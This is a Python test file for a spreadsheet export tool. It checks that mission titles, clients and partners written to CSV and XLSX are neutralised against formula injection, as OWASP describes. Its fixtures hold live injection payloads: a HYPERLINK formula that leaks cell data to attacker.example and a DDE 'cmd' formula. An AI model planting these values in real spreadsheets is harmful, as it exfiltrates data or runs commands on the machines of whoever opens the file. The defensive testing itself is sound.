"""Threat: a mission's text runs as a formula in the buyer's spreadsheet.

Item 1 of issue 10. `references.csv` and `references.xlsx` go to the buyer. A title, client
or partner starting with `=`, `+`, `-` or `@` (or a tab or CR a spreadsheet strips first)
was written as is into the CSV and as a real formula into the XLSX
(`=HYPERLINK("http://…?leak="&B3,…)` became `<f>HYPERLINK(…)</f>`): opening the file would
run it. Every text cell must be text, neutralised as OWASP's CSV-injection guidance says,
while an honest "-20 % de coûts" still reads the same in the XLSX.
"""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from refsheets import load_library
from refsheets.export.tables import rows_for, to_csv, to_xlsx
from tests.hostile.exporting import add_mission, export, make_project, mission_yaml, write_tender

LEAK = '=HYPERLINK("http://attacker.example/?leak="&B3,"Voir la référence")'
HOSTILE = {
    "2022-a": mission_yaml(LEAK, "+1+41", partner="@SUM(1,41)"),
    "2022-b": mission_yaml("=1+41", "-1+43", partner="=cmd|' /C calc'!A0"),
    "2022-c": mission_yaml("\uff1d1+41", "Client honnête", partner="Partenaire honnête"),
}
HONEST = "-20 % de coûts de fonctionnement"


@pytest.fixture
def tables(tmp_path: Path) -> tuple[bytes, bytes, dict[str, list[str]]]:
    """The CSV and XLSX of the hostile missions and one honest one, and their texts."""
    project = make_project(tmp_path / "p", 0)
    for mission_id, text in HOSTILE.items():
        add_mission(project, mission_id, text)
    add_mission(project, "2022-d", mission_yaml(HONEST, "Ville de Test"))
    library = load_library(project / "data")
    assert not library.errors, library.errors
    ids = sorted(library.missions)
    rows = rows_for([(i, library.missions[i]) for i in ids])
    texts = {
        i: [text for text in (r.description, r.client, r.partners) if text]
        for i, r in zip(ids, rows, strict=True)
    }
    return to_csv(rows), to_xlsx(rows, title="t"), texts


def test_no_formula_in_the_xlsx(tables: tuple[bytes, bytes, dict[str, list[str]]]) -> None:
    _, xlsx, texts = tables
    sheet_xml = zipfile.ZipFile(io.BytesIO(xlsx)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    workbook = load_workbook(io.BytesIO(xlsx))
    sheet = workbook.active
    assert sheet is not None
    seen = {cell.value: cell for row in sheet.iter_rows(min_row=2) for cell in row}
    for values in texts.values():
        for value in values:
            cell = seen[value]  # the reader sees the text unchanged, honest or not
            assert cell.data_type == "s"
            assert cell.quotePrefix is (value[0] in "=+-@\uff1d"), value
    assert seen[HONEST].value == HONEST


def test_no_formula_in_the_csv(tables: tuple[bytes, bytes, dict[str, list[str]]]) -> None:
    data, _, texts = tables
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))
    cells = {cell for row in rows[1:] for cell in row}
    for values in texts.values():
        for value in values:
            expected = "'" + value if value[0] in "=+-@\uff1d" else value
            assert expected in cells, value
    for row in rows[1:]:
        for cell in row:
            assert not cell or cell[0] not in "=+-@\t\r\uff1d", row


@pytest.mark.slow
def test_the_exported_tables_hold_no_formula(tmp_path: Path) -> None:
    """The tables as the export writes them for the buyer."""
    project = make_project(tmp_path / "p", 0)
    for mission_id in ("2022-a", "2022-b"):  # the full-width sign is not in the cards' font
        add_mission(project, mission_id, HOSTILE[mission_id])
    tender = write_tender(project, references=2)
    result = export(project, tender)
    assert result.returncode == 0, result.stderr
    folder = project / "out" / "t"
    with zipfile.ZipFile(folder / "references.xlsx") as xlsx:
        sheet = xlsx.read("xl/worksheets/sheet1.xml").decode("utf-8")
        styles = xlsx.read("xl/styles.xml").decode("utf-8")
    assert "<f>" not in sheet and "<f " not in sheet
    assert 'quotePrefix="1"' in styles
    assert "HYPERLINK" in sheet  # there, as text
    rows = list(
        csv.reader(
            io.StringIO((folder / "references.csv").read_text(encoding="utf-8-sig")),
            delimiter=";",
        )
    )
    cells = {cell for row in rows for cell in row}
    assert {"'" + LEAK, "'=1+41", "'+1+41", "'-1+43"} <= cells
